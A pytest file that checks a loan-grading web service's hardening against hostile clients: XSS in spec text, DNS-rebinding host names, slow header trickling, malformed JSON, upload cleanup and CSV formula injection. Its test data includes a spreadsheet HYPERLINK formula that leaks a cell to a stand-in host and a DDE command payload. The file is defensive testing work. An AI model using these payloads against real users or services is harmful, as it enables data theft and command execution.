"""The service against a hostile client or spec (issue #29): markup from a spec never runs on its pages (the real
browser), a request cannot stall it, nothing an applicant sent is left behind (SIGTERM included), only its own host
names are answered, a client trickling headers is cut off, its graded CSV opens in a spreadsheet as data, and JSON
that is not plain UTF-8 with unique keys is refused.

In-process (TestClient) where the service's answers are the point; real `korllama serve` subprocesses where the
server, its signals or the browser are.
"""

from __future__ import annotations

import io
import json
import os
import shutil
import signal
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path

import httpx
import pandas as pd
import pytest
from fastapi.testclient import TestClient
from fixtures import XSS, free_port, make_hostile_run, unlabelled_csv

import korllama.serve.jobs as jobs_module
from korllama.csvsafe import neutralise_formulas
from korllama.run import Run
from korllama.serve import create_app
from korllama.serve.jobs import Limits

REPO = Path(__file__).resolve().parents[1]
CHROMIUM = shutil.which("chromium") or "/usr/bin/chromium"
CHROMEDRIVER = shutil.which("chromedriver") or "/usr/bin/chromedriver"
LOCAL = "http://localhost"


@pytest.fixture(scope="module")
def client(run_dir):
    with TestClient(create_app(Run.load(run_dir)), base_url=LOCAL) as c:
        yield c


def applicant() -> dict:
    return {"대출금액": "12000000", "대출기간": " 36 months", "근로기간": "10+ years", "주택소유상태": "RENT",
            "연간소득": "72000000", "부채_대비_소득_비율": "18.5", "총계좌수": "15", "대출목적": "부채 통합",
            "최근_2년간_연체_횟수": "0", "총상환원금": "400000", "총상환이자": "150000.0", "총연체금액": "0.0",
            "연체계좌수": "0.0"}


class Serve:
    """`korllama serve RUN ARGS` in a subprocess on a free loopback port, its temporary files under `tmp`."""

    def __init__(self, run: Path, tmp: Path, *args: str):
        tmp.mkdir(parents=True, exist_ok=True)
        env = {k: v for k, v in os.environ.items() if k != "KORLLAMA_TOKEN"} | {
            "TMPDIR": str(tmp), "OMP_NUM_THREADS": "1", "HF_HUB_OFFLINE": "1", "PYTHONUNBUFFERED": "1"}
        self.port, self.log, self.tmp = free_port(), tmp / "serve.log", tmp
        self.url = f"http://127.0.0.1:{self.port}"
        self.process = subprocess.Popen([sys.executable, "-m", "korllama", "serve", str(run), "--port",
                                         str(self.port), *args], cwd=REPO, env=env, stdout=self.log.open("wb"),
                                        stderr=subprocess.STDOUT)
        for _ in range(1200):
            assert self.process.poll() is None, self.log.read_text("utf-8", "replace")
            try:
                if httpx.get(self.url + "/health", timeout=2).status_code == 200:
                    return
            except httpx.HTTPError:
                time.sleep(0.1)
        raise AssertionError(self.log.read_text("utf-8", "replace"))

    def stop(self) -> None:
        if self.process.poll() is None:
            self.process.terminate()
            self.process.wait(30)


@pytest.fixture(scope="module")
def server(run_dir, tmp_path_factory):
    served = Serve(run_dir, tmp_path_factory.mktemp("served"), "--header-timeout", "1")
    yield served
    served.stop()


# --- 2. a request cannot stall the service ---------------------------------------------------------------------------

def test_a_batch_of_unknown_keys_is_refused_at_once_and_health_answers_meanwhile(server):
    bad = json.dumps([applicant() | {f"x{k}": 1 for k in range(300)} for _ in range(1024)]).encode()
    assert 3_000_000 < len(bad) < 4 * 2**20  # 1,024 applicants x 300 unknown keys: 3.3 MB, under the body limit
    refusals: list[tuple[int, float, str]] = []

    def send_bad_batches():
        with httpx.Client(timeout=60) as c:
            for _ in range(5):
                started = time.perf_counter()
                r = c.post(server.url + "/v1/grade", content=bad, headers={"content-type": "application/json"})
                refusals.append((r.status_code, time.perf_counter() - started, r.text))

    sender = threading.Thread(target=send_bad_batches)
    latencies = []
    with httpx.Client(timeout=30) as c:
        c.get(server.url + "/health")  # the connection is open before the timing starts
        sender.start()
        while sender.is_alive():
            started = time.perf_counter()
            assert c.get(server.url + "/health").status_code == 200
            latencies.append(time.perf_counter() - started)
            time.sleep(0.005)
    sender.join()
    assert [status for status, _, _ in refusals] == [422] * 5
    detail = json.loads(refusals[0][2])["detail"]
    assert len(detail) == 1 and detail[0]["msg"].startswith("applicants[0]: unknown field 'x0'")
    assert max(seconds for _, seconds, _ in refusals) < 2, refusals  # before: 6 to 10 s each
    print(f"bad batch refused in {min(t for _, t, _ in refusals):.3f}-{max(t for _, t, _ in refusals):.3f} s; "
          f"/health during them: {len(latencies)} answers, max {max(latencies) * 1000:.1f} ms")
    assert len(latencies) >= 5 and max(latencies) < 0.1, latencies  # before: /health waited for the refusal


def test_many_bad_values_are_judged_off_the_event_loop_and_listed_up_to_a_limit(client):
    body = [{k: [1] for k in applicant()} for _ in range(1024)]  # every field of every applicant wrong
    started = time.perf_counter()
    r = client.post("/v1/grade", json=body)
    assert r.status_code == 422 and time.perf_counter() - started < 2
    detail = r.json()["detail"]
    assert len(detail) == 21 and detail[0]["loc"] == ["body", 0, "대출금액"]
    assert detail[-1]["msg"] == "... and 13292 more problems like these"  # 1,024 x 13 fields, 20 of them said


@pytest.mark.parametrize("path, param", [("/v1/grade?top=21", "top"), ("/v1/grade?explain=maybe", "explain"),
                                         ("/v1/grade?explain=true&top=0", "top"), ("/page/jobs?proba=maybe", "proba")])
def test_query_parameter_errors_get_a_sentence(client, path, param):
    if path.startswith("/page"):
        r = client.post(path, content=b"ID\n1\n", headers={"content-type": "application/octet-stream"})
    else:
        r = client.post(path, json=applicant())
    assert r.status_code == 422, r.text
    detail = r.json()["detail"]
    assert len(detail) == 1 and detail[0]["loc"] == ["query", param], detail  # before: {"detail": []}
    assert detail[0]["msg"].startswith(f"the query parameter {param}=") and "is not allowed" in detail[0]["msg"]


# --- 6. JSON as the standard has it -----------------------------------------------------------------------------------

@pytest.mark.parametrize("case, body, said", [
    ("a key twice", b'{"\\ub300\\ucd9c\\uae08\\uc561": "1", "\\ub300\\ucd9c\\uae08\\uc561": "2"}',
     "gives the key \"대출금액\" twice"),
    ("a key twice, deep in a list", b'[{"a": 1}, {"ID": "x", "ID": "y"}]', "gives the key \"ID\" twice"),
    ("a UTF-8 byte order mark", b"\xef\xbb\xbf{}", "byte order mark"),
    ("UTF-16 with its mark", '{"ID": "x"}'.encode("utf-16"), "UTF-16"),
    ("UTF-16 without one", '{"ID": "x"}'.encode("utf-16-le"), "UTF-16"),
    ("UTF-32", '{"ID": "x"}'.encode("utf-32-be"), "UTF-32"),
])
def test_json_that_is_not_plain_utf8_with_unique_keys_is_refused(client, case, body, said):
    r = client.post("/v1/grade", content=body, headers={"content-type": "application/json"})
    assert r.status_code == 422, (case, r.text)  # before: read (the last value kept, UTF-16 decoded)
    detail = r.json()["detail"]
    assert len(detail) == 1 and said in detail[0]["msg"] and detail[0]["type"] == "json_invalid", detail


def test_a_duplicate_key_is_refused_even_when_both_values_are_good(client):
    body = json.dumps(applicant())[:-1] + ', "대출금액": "13000000"}'
    assert client.post("/v1/grade", content=body.encode(), headers={"content-type": "application/json"}
                       ).status_code == 422


# --- 4. only the service's own host names -----------------------------------------------------------------------------

def test_other_host_names_are_refused_with_a_sentence(run_dir):
    with TestClient(create_app(Run.load(run_dir), allowed_hosts=["127.0.0.1", "localhost", "[::1]",
                                                                   "grader.example"]), base_url=LOCAL) as c:
        for host in ("localhost", "localhost:8000", "127.0.0.1:80", "[::1]:8000", "[::1]", "LOCALHOST",
                     "grader.example:443"):
            assert c.get("/health", headers={"host": host}).status_code == 200, host
        for host in ("rebind.attacker.example", "rebind.attacker.example:8000", "127.0.0.1.nip.io", "[::2]",
                     "localhost.attacker.example"):
            r = c.get("/health", headers={"host": host})
            assert r.status_code == 400, host
            assert "DNS rebinding" in r.json()["detail"] and "--allow-host" in r.json()["detail"]
            assert c.post("/v1/grade", json=applicant(), headers={"host": host}).status_code == 400
            assert r.headers["x-frame-options"] == "DENY"  # the refusal has the security headers too
    with TestClient(create_app(Run.load(run_dir)), base_url="http://testserver") as c:
        assert c.get("/health").status_code == 400  # create_app's default: loopback names only


def test_serve_allows_its_own_names_and_allow_host(cli, run_dir, monkeypatch):
    import uvicorn

    calls = []
    monkeypatch.setattr(uvicorn, "run", lambda app, **kwargs: calls.append((app, kwargs)))
    code, _, err = cli("serve", run_dir, "--host", "127.0.0.2", "--allow-host", "grader.example", "--allow-host",
                       "::1")
    assert code == 0, err
    code, _, err = cli("serve", run_dir, "--host", "0.0.0.0")
    assert code == 0 and "--allow-host" in " ".join(err.split())  # told how clients' names get in
    for (app, kwargs), names in zip(calls, [{"grader.example", "127.0.0.2"}, set()]):
        with TestClient(app, base_url=LOCAL) as c:
            for host in ["127.0.0.1:8000", "localhost", "[::1]:8000", *names]:
                assert c.get("/health", headers={"host": host}).status_code == 200, host
            assert c.get("/health", headers={"host": "elsewhere.example"}).status_code == 400
        assert kwargs["http"].seconds == 10  # the header deadline (5.)


# --- 1. headers that keep markup inert -------------------------------------------------------------------------------

def test_every_answer_has_the_security_headers_and_the_docs_no_inline_script(client):
    for path in ("/", "/docs", "/redoc", "/health", "/openapi.json", "/page/static/page.js", "/nope"):
        r = client.get(path)
        policy = r.headers["content-security-policy"]
        assert "frame-ancestors 'none'" in policy and "'unsafe-inline'" not in policy.split("style-src")[0], path
        assert r.headers["x-content-type-options"] == "nosniff" and r.headers["x-frame-options"] == "DENY", path
    assert "script-src 'self';" in client.get("/").headers["content-security-policy"]
    for path in ("/docs", "/redoc"):
        html = client.get(path).text
        assert "<script>" not in html and html.count("<script src=") >= 1, path  # every script from a file


def test_the_openapi_prose_is_plain_text(hostile_run):
    with TestClient(create_app(Run.load(hostile_run)), base_url=LOCAL) as c:
        schema = c.get("/openapi.json").json()
    prose = []

    def walk(node):
        if isinstance(node, dict):
            prose.extend(v for k, v in node.items() if k in ("description", "summary") and isinstance(v, str))
            for k, v in node.items():
                if k not in ("enum", "examples", "example", "const", "default"):
                    walk(v)
        elif isinstance(node, list):
            for v in node:
                walk(v)
    walk(schema)
    hostile = [p for p in prose if "onerror" in p or "javascript" in p]
    assert hostile and all("<" not in p and "](" not in p for p in prose), hostile
    assert "&lt;img src=x onerror=" in hostile[0]  # the words stay, as text
    assert any(XSS in e for e in schema["components"]["schemas"]["GradeResult"]["properties"]["grade"]["enum"])


# --- 3. and 5. the page's files ---------------------------------------------------------------------------------------

def upload(c, data: bytes, name: str = "applicants.csv") -> httpx.Response:
    return c.post("/page/jobs", params={"name": name}, content=data,
                  headers={"content-type": "application/octet-stream"})


def wait_job(c, job_id: str) -> dict:
    for _ in range(600):
        state = c.get(f"/page/jobs/{job_id}").json()
        if state["status"] in ("done", "failed"):
            return state
        time.sleep(0.05)
    raise AssertionError(state)


def test_the_graded_csv_neutralises_formulas_and_the_run_has_no_path(client, run_dir, tmp_path):
    frame = pd.read_csv(unlabelled_csv(tmp_path / "a.csv", rows=6), dtype=str, keep_default_na=False)
    frame["ID"] = ['=HYPERLINK("http://x.example/?"&A1)', "+1+2", "-3+cmd|' /C calc'!A0", "@SUM(1)", "-42",
                   "PLAIN_1"]
    state = wait_job(client, upload(client, frame.to_csv(index=False).encode()).json()["id"])
    assert state["status"] == "done", state
    graded = pd.read_csv(io.StringIO(client.get(f"/page/jobs/{state['id']}/file").text), dtype=str,
                         keep_default_na=False)
    assert graded["ID"].tolist() == ["'" + i for i in frame["ID"][:5]] + ["PLAIN_1"]
    run = client.get("/page/run")
    assert "path" not in run.json() and str(run_dir) not in run.text and run.json()["run"] == run_dir.name


def test_neutralise_formulas_touches_text_cells_only_and_once():
    frame = pd.DataFrame({"ID": ["=1+1", "a", "-2", "@x", "\rq", None, "'=done"], "P": [-1.0, 2, 3, 4, 5, 6, 7]})
    once = neutralise_formulas(frame)
    assert once["ID"].tolist()[:5] == ["'=1+1", "a", "'-2", "'@x", "'\rq"] and once["ID"].tolist()[6] == "'=done"
    assert once["P"].tolist() == frame["P"].tolist() and frame["ID"][0] == "=1+1"  # numbers as they are; a copy
    assert neutralise_formulas(once).equals(once)


def test_jobs_are_capped_cancelled_and_their_files_removed(run_dir, tmp_path, monkeypatch):
    release = threading.Event()
    real = jobs_module.predict_file

    def held(*args, **kwargs):  # the first job grades only when released: the queue is full meanwhile
        release.wait(30)
        return real(*args, **kwargs)

    monkeypatch.setattr(jobs_module, "predict_file", held)
    data = unlabelled_csv(tmp_path / "a.csv", rows=5).read_bytes()
    app = create_app(Run.load(run_dir), limits=Limits(max_jobs=2, max_disk_bytes=3 * len(data)))
    with TestClient(app, base_url=LOCAL) as c:
        jobs = app.state.jobs
        first, second = upload(c, data).json()["id"], upload(c, data).json()["id"]
        r = upload(c, data)
        assert r.status_code == 429 and "2 files are waiting or being graded" in r.json()["detail"]
        r = c.delete(f"/page/jobs/{second}")  # cancelled while waiting: it never starts, its upload is gone
        assert r.status_code == 200 and r.json()["status"] == "cancelled"
        assert c.get(f"/page/jobs/{second}").status_code == 404 and len(list(jobs.root.iterdir())) == 1
        r = upload(c, data * 3)  # the disk cap: 2 uploads' bytes are left of it, not 3
        assert r.status_code == 429 and "its limit is" in r.json()["detail"]
        release.set()
        assert wait_job(c, first)["status"] == "done"
        folder = jobs.jobs[first].folder
        assert [p.name for p in folder.iterdir()] == ["graded.csv"]  # the upload is deleted once graded
        failed = wait_job(c, upload(c, b"ID;x\n1;2\n", "bad.csv").json()["id"])
        assert failed["status"] == "failed" and failed["error"].startswith("bad.csv: ")
        assert len(list(jobs.root.iterdir())) == 1  # a failed job leaves no file
        jobs.sweep(time.monotonic() + Limits().keep_s + 1)  # an hour later (the lifespan's timer sweeps)
        assert not folder.exists() and c.get(f"/page/jobs/{first}").status_code == 404
        root = jobs.root
    assert not root.exists()  # the service stopped: its temporary folder is gone


def test_sigterm_removes_the_uploads(run_dir, tmp_path):
    served = Serve(run_dir, tmp_path / "tmp")
    try:
        data = unlabelled_csv(tmp_path / "a.csv", rows=5).read_bytes()
        with httpx.Client(base_url=served.url, timeout=30) as c:
            wait_job(c, upload(c, data).json()["id"])
            upload(c, data)  # another, waiting or being graded
        folders = list(served.tmp.glob("korllama-page-*"))
        assert len(folders) == 1 and any(p.is_file() for p in folders[0].rglob("*"))
        served.process.send_signal(signal.SIGTERM)
        served.process.wait(30)
    finally:
        served.stop()
    assert not list(served.tmp.glob("korllama-page-*"))  # before: left behind (uvicorn re-raises SIGTERM)


# --- 5. a client trickling its headers --------------------------------------------------------------------------------

def test_a_client_trickling_its_headers_is_cut_off(server):
    with socket.create_connection(("127.0.0.1", server.port), timeout=10) as s:
        started, closed = time.monotonic(), None
        s.sendall(b"GET /health HTTP/1.1\r\nHost: 127.0.0.1\r\n")
        for _ in range(40):  # a header line every 0.2 s, never the blank line that ends the head
            try:
                s.sendall(b"X-Slow: 1\r\n")
                s.settimeout(0.2)
                if s.recv(1024) == b"":
                    closed = time.monotonic() - started
                    break
            except TimeoutError:
                continue
            except OSError:
                closed = time.monotonic() - started
                break
        assert closed is not None and closed < 4, closed  # --header-timeout 1
    with httpx.Client() as c:  # an ordinary client is not affected: two requests on one connection
        assert c.get(server.url + "/health").status_code == 200
        time.sleep(1.5)  # idle past the deadline between requests: the keep-alive timeout's business, not this one
        assert c.get(server.url + "/health").status_code == 200


# --- 1. in the real browser -------------------------------------------------------------------------------------------

@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory) -> Path:
    return make_hostile_run(tmp_path_factory.mktemp("hostile") / "hostile")


@pytest.fixture(scope="module")
def browser():
    if not (Path(CHROMIUM).exists() and Path(CHROMEDRIVER).exists()):
        pytest.skip("the browser tests need chromium and chromedriver: apt-get install -y chromium chromium-driver")
    from selenium import webdriver
    from selenium.webdriver.chrome.service import Service

    options = webdriver.ChromeOptions()
    options.binary_location = CHROMIUM
    for arg in ("--headless=new", "--no-sandbox", "--disable-dev-shm-usage", "--window-size=1280,1000"):
        options.add_argument(arg)
    options.set_capability("unhandledPromptBehavior", "ignore")  # an alert stays open for the test to see
    driver = webdriver.Chrome(service=Service(executable_path=CHROMEDRIVER), options=options)
    yield driver
    driver.quit()


INJECTED = """return [...document.querySelectorAll('*')]
    .filter(e => [...e.attributes].some(a => a.name.startsWith('on')) || e.tagName === 'SCRIPT' && !e.src
                 && e.type !== 'application/json')
    .map(e => e.outerHTML.slice(0, 120))"""


@pytest.mark.browser
def test_markup_from_a_spec_never_runs_on_the_pages(browser, hostile_run, tmp_path):
    from selenium.common.exceptions import NoAlertPresentException

    served = Serve(hostile_run, tmp_path / "tmp")
    try:
        pages = {"/": "korllama grading", "/docs": "korllama - Swagger UI", "/redoc": "korllama - ReDoc"}
        for path, title in pages.items():
            browser.get(served.url + path)
            shown = {"/": "#card-html h1", "/docs": ".opblock-summary", "/redoc": "[data-section-id]"}[path]
            for _ in range(200):
                if browser.execute_script(f"return document.querySelectorAll('{shown}').length > 0"):
                    break
                time.sleep(0.1)
            if path == "/docs":  # open the operation and every schema: their descriptions rendered
                browser.execute_script("document.querySelectorAll('.opblock-summary-control, .models-control')"
                                       ".forEach(e => e.click())")
                time.sleep(1)
                browser.execute_script("document.querySelectorAll('.model-box-control').forEach(e => e.click())")
            if path == "/":  # the model card, opened
                browser.execute_script("document.getElementById('card').open = true")
            time.sleep(1.5)  # an image that fails to load fires its onerror by now
            with pytest.raises(NoAlertPresentException):
                browser.switch_to.alert.text  # noqa: B018
            text = browser.execute_script("return document.body.innerText")
            assert "onerror" in text, path  # the payloads are on the page, as text
            assert browser.title == title and browser.execute_script("return window.pwned") is None, path
            assert browser.execute_script(INJECTED) == [], path
    finally:
        served.stop()
